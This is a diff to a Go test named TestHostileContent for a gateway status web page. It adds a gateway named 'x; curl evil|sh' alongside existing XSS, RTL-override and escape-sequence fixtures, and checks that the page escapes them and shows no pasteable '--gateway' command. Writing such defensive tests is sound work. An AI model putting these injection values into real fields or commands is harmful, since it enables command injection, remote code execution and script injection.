@@ -325,6 +325,7 @@ func TestHostileContent(t *testing.T) {
 		DiscoveredGateways: []v1alpha1.DiscoveredGateway{
 			{Name: script, PodName: "line-0", SyncStatus: v1alpha1.GatewayError, Reason: `"><script>alert(1)</script>`, Message: script + long, Profile: script[:60], SyncedRef: script, LastScanResult: script,
 				AgentVersion: script[:60], ProjectsSynced: []string{script}, Proposal: "javascript:alert(1)", ProposalState: v1alpha1.ProposalOpen},
+			{Name: "x; curl evil|sh", PodName: "line-2", SyncStatus: v1alpha1.GatewayError, Reason: v1alpha1.ReasonScanFailed},
 			{Name: "..", PodName: "line-1", SyncStatus: v1alpha1.GatewayHeld, Reason: v1alpha1.ReasonConflictDetected, Message: "abc\u202egnp.exe\x1b[31m", Proposal: "data:text/html,<script>alert(1)</script>", ProposalState: v1alpha1.ProposalOpen},
 		},
 		Conditions: []metav1.Condition{{Type: v1alpha1.ConditionBidirectionalReady, Status: metav1.ConditionFalse, Reason: "X", Message: script, LastTransitionTime: metav1.Now()}},
@@ -355,6 +356,7 @@ func TestHostileContent(t *testing.T) {
 		})
 	}
 	assert.Contains(t, r.get(fleet+"/gateway?name=.."), "&#43; &lt;script&gt;", "the page must show the answer of the agent")
+	assert.NotContains(t, r.get(fleet+"/gateway?"+url.Values{"name": {"x; curl evil|sh"}}.Encode()), "--gateway", "no command to paste")
 	assert.Less(t, len(r.get(fleet)), 40_000, "a large message must be truncated")
 }
 
